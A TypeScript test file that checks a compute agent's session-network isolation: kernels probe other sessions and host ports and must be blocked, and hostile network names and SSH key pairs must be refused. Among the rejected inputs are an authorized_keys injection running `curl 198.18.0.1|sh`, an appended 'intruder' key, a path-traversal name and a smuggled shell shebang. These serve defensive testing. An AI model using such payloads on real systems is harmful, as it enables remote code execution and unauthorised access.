/**
 * Session networks are tenants too (docs/sessions.rst, "Networks and
 * isolation"): code in a kernel of one session, as a hostile user would,
 * tries every way out of its session: a kernel of another session (its
 * address, its hostname main1 being also the other session's name), a plain
 * kernel on the kernel network, every port of the host it can name (the
 * session bridge's gateway, the kernel network's gateway, the host's
 * addresses; the agent's RPC port with `--bind-host *` and a listener of
 * the test on every address). Each attempt fails, while the kernels of the
 * session reach each other on any port (the runner's 2000 and the
 * session's sshd on 2200 included), and the other session and the plain
 * kernel cannot come in either. A manager's hostile key pair is refused
 * before anything is made.
 */
import { expect } from 'chai';
import { execFileSync } from 'node:child_process';
import Docker from 'dockerode';
import { modernMethods } from '../../src/rpc/modern-methods.js';
import { kernelNetworkName } from '../../src/containers/kernel-network.js';
import { freePort, kernelIds, onCleanup, remoteError, requireEtcd, startAgent, uniqueName } from '../helpers/env.js';
import { ModernManager } from '../helpers/modern-manager.js';
import { addressOn, createSession, managerKeypair, newSession, py, squareServer, type TestSession } from '../helpers/sessions.js';
import { hostAddresses, hostListener, probeCode } from '../helpers/host-probe.js';

describe('session networks: a session is a tenant', function () {
  this.timeout(180_000);
  before(requireEtcd);

  it('lets the kernels of a session reach each other on every port and nothing else: not another session, a plain kernel or the host', async () => {
    const listener = await hostListener();
    const t = await startAgent({ bindHost: '*' }, async (etcd) => {
      await etcd.put('config/agent/cpu_overcommit').value('4'); // four kernels on this 2-core machine
    });
    const m = new ModernManager(`tcp://127.0.0.1:${t.port}`);
    onCleanup(() => m.close());
    const a = newSession(['main1', 'sub1']);
    const b = newSession(['main1']);
    const plain: TestSession = {
      sessionId: uniqueName('plain'),
      network: kernelNetworkName(t.agentId),
      ids: { main1: uniqueName('plain') },
    };
    for (const s of [a, b]) await m.client.call(modernMethods.create_local_network, s.network);
    await Promise.all([createSession(m, a), createSession(m, b), createSession(m, plain, {}, null)]);

    // Something to reach in each target: a TCP server on 7000 (and the runner's own 2000).
    await Promise.all([
      py(m, a, 'sub1', squareServer(7000)),
      py(m, b, 'main1', squareServer(7000)),
      py(m, plain, 'main1', squareServer(7000)),
    ]);
    const sub1 = (await addressOn(a.ids.sub1!, a.network))!;
    const other = (await addressOn(b.ids.main1!, b.network))!;
    const kernel = (await addressOn(plain.ids.main1!, plain.network))!;
    expect([sub1, other, kernel], 'each kernel is on its own network').to.not.include(null);

    const hosts = [...new Set([sub1.gateway, other.gateway, kernel.gateway, ...hostAddresses()])];
    const attacks: Array<[string, number]> = [
      ...[other.ip, kernel.ip].flatMap((ip) => [7000, 2000, 2200].map((p): [string, number] => [ip, p])),
      ...hosts.flatMap((h) => [t.port, listener.port].map((p): [string, number] => [h, p])),
    ];
    const within: Array<[string, number]> = [
      ['sub1', 7000],
      ['sub1', 2000],
      ['sub1', 2200],
      [sub1.ip, 7000],
    ];
    // A port where nothing listens on the node, probed on each host address: it opens only for a connection that left
    // the node (an address another test's network held when the list was made, gone by the probe, is routed out, and
    // egress is allowed; this machine's uplink answers any address), which then says nothing of the host.
    const closed = await freePort();
    const offNode = hosts.map((h): [string, number] => [h, closed]);
    const result = JSON.parse(await py(m, a, 'main1', probeCode([...within, ...attacks, ...offNode]))) as Record<string, string>;
    for (const [h, p] of within) expect(result[`${h}:${p}`], `within the session: ${h}:${p}`).to.equal('open');
    const gone = new Set(hosts.filter((h) => result[`${h}:${closed}`] === 'open'));
    expect(gone.has(sub1.gateway), "the session network's gateway is the node").to.equal(false);
    const reached = attacks
      .filter(([h]) => !gone.has(h))
      .map(([h, p]) => `${h}:${p}`)
      .filter((k) => result[k] === 'open');
    const firewall = () =>
      ['filter', 'mangle'].map((tb) => execFileSync('iptables', ['-w', '-t', tb, '-S'], { encoding: 'utf8' })).join('\n');
    expect(reached, `what session A's main1 reached; the firewall then:\n${reached.length ? firewall() : ''}`).to.deep.equal([]);

    // And in: neither the other session nor the plain kernel reaches session A's kernels.
    const inbound: Array<[string, number]> = [
      [sub1.ip, 7000],
      [sub1.ip, 2000],
      [sub1.ip, 2200],
    ];
    for (const [s, who] of [
      [b, 'another session'],
      [plain, 'a plain kernel'],
    ] as const) {
      const r = JSON.parse(await py(m, s, 'main1', probeCode(inbound))) as Record<string, string>;
      const open = inbound.map(([h, p]) => `${h}:${p}`).filter((k) => r[k] === 'open');
      expect(open, `what ${who} reached of session A`).to.deep.equal([]);
    }
    expect(listener.accepted(), 'connections the host listener accepted from kernels').to.equal(0);
  });

  it('never lets a manager put kernels on, or remove, a network the agent did not make as a session network', async () => {
    const t = await startAgent();
    const m = new ModernManager(`tcp://127.0.0.1:${t.port}`);
    onCleanup(() => m.close());
    // A network of someone else's on this node (the test's own, labelled as such), and the agent's kernel network.
    const docker = new Docker();
    const foreign = uniqueName('ca-test-foreign');
    await docker.createNetwork({ Name: foreign, Labels: { 'io.compute-agent.test': 'sessions-network' } });
    onCleanup(() => docker.getNetwork(foreign).remove());
    const kernelNet = kernelNetworkName(t.agentId);

    for (const name of ['host', 'bridge', 'none', kernelNet, '../x', 'a'.repeat(129), foreign]) {
      const made = await remoteError(m.client.call(modernMethods.create_local_network, name));
      expect(made.message, `create_local_network(${name})`).to.match(/ParametersError/);
      const joined = await remoteError(createSession(m, { ...newSession(['main1', 'sub1']), network: name }));
      expect(joined.message, `create_kernels on ${name}`).to.match(/ParametersError/);
      const removed = await remoteError(m.client.call(modernMethods.destroy_local_network, name));
      expect(removed.message, `destroy_local_network(${name})`).to.match(/ParametersError/);
    }
    expect(await kernelIds(t.client), 'no kernel was made').to.deep.equal([]);

    // A key pair that would put more than one key, or options, into the kernels' authorized_keys, or is no key at all.
    const good = managerKeypair();
    const s = newSession(['main1', 'sub1']);
    await m.client.call(modernMethods.create_local_network, s.network);
    for (const bad of [
      { ...good, public_key: `${good.public_key}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0ZW50YXRpdmU= intruder` },
      { ...good, public_key: `command="curl 198.18.0.1|sh" ${good.public_key}` },
      { ...good, public_key: 'x'.repeat(20_000) },
      { ...good, private_key: `${good.private_key}\n#!/bin/sh\n` },
      { ...good, private_key: 42 },
      { public_key: good.public_key },
      'a key',
    ]) {
      const refused = await remoteError(createSession(m, s, {}, s.network, bad as Record<string, unknown>));
      expect(refused.message, JSON.stringify(bad).slice(0, 120)).to.match(/ParametersError.*cluster_info ssh_keypair/);
    }
    expect(await kernelIds(t.client), 'no kernel was made').to.deep.equal([]);
    await m.client.call(modernMethods.destroy_local_network, s.network);
    const still = (await docker.getNetwork(foreign).inspect()) as { Name: string };
    expect(still.Name, 'the foreign network is left alone').to.equal(foreign);
  });
});
